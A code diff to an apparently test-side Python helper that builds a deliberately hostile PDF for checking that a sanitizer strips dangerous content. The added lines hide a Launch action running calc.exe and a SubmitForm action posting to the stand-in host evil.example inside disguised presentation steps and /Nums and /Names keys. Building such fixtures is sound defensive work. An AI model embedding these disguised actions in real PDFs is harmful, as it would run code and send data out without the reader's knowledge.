@@ -367,7 +367,9 @@ def hostile_pdf(note_appearance: bool = True) -> bytes:
     bring (extensions.md 12: what append, prepend and placing must not keep): page-open
     JavaScript, Launch, javascript: and file: links, SubmitForm, GoToR, ImportData, a Named
     action, an attached .exe, RichMedia, Screen, Sound and Movie annotations, an orphan widget,
-    a good link whose action chains JavaScript (/Next), associated files; and what it keeps: an
+    a good link whose action chains JavaScript (/Next), associated files, presentation steps
+    whose actions pass for something else (a bogus /P, a /Type other than /Action), actions and
+    an attached file as the keys of /Nums and /Names arrays (page's and form's); and what it keeps: an
     https link, a mailto link and a link to its page 2, each tagged (a Link element and its OBJR).
     Its catalog has an /OpenAction, JavaScript and an embedded file in its names tree. Its pages
     draw only shapes (no font): pdf-a takes them, unless its note has no appearance stream
@@ -393,6 +395,15 @@ def hostile_pdf(note_appearance: bool = True) -> bytes:
     mark.AF = Array([document.make_indirect(attached)])
     mark.Private = script("app.alert('in a form')")
     first.obj.Resources = Dictionary(XObject=Dictionary(Mark=mark))
+    # Actions a reader runs as it steps through the page, dressed up as something else: a /P (as a
+    # structure element has) or a /Type of their own. And actions where a number or name tree has
+    # its keys, which are not values to be checked.
+    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), P=0)
+    submit = Dictionary(Type=Name.StructElem, S=Name.SubmitForm, F=String("https://evil.example/steps"))
+    first.obj.PresSteps = document.make_indirect(Dictionary(Type=Name.NavNode, NA=launch, PA=submit))
+    for holder in (first.obj, mark):
+        holder.Nums = Array([document.make_indirect(launch), 0, document.make_indirect(attached), 1])
+        holder.Names = Array([script("app.alert('a key')"), String("k")])
     first.obj.Contents = document.make_stream(b"/Artifact BMC q /Mark Do Q EMC " + first.obj.Contents.read_bytes())
 
     def annotation(subtype: str, y: float, **entries: object) -> pikepdf.Object:
